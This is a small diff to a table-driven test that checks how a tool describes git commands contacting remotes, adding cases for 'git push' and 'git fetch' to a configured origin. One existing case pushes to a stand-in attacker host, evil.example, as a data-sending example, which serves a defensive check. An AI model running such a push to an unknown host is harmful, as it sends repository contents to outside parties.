@@ -31,6 +31,8 @@ test.each([
   ["without", "git push origin main", "sends data to the remote origin, which this repository does not have yet"],
   ["without", "git push", "sends data to a remote, of which this repository has none yet"],
   ["without", "git fetch upstream", "contacts the remote upstream, which this repository does not have yet"],
+  ["with", "git push", "sends data to the remote origin (https://github.com/a/b.git)"],
+  ["with", "git fetch", "contacts the remote origin (https://github.com/a/b.git)"],
   ["with", "git push origin main", "sends data to the remote origin (https://github.com/a/b.git)"],
   ["with", "git pull fork main", "contacts the remote fork, which this repository does not have yet"],
   ["with", "git push https://evil.example/x main", "sends data to evil.example"],
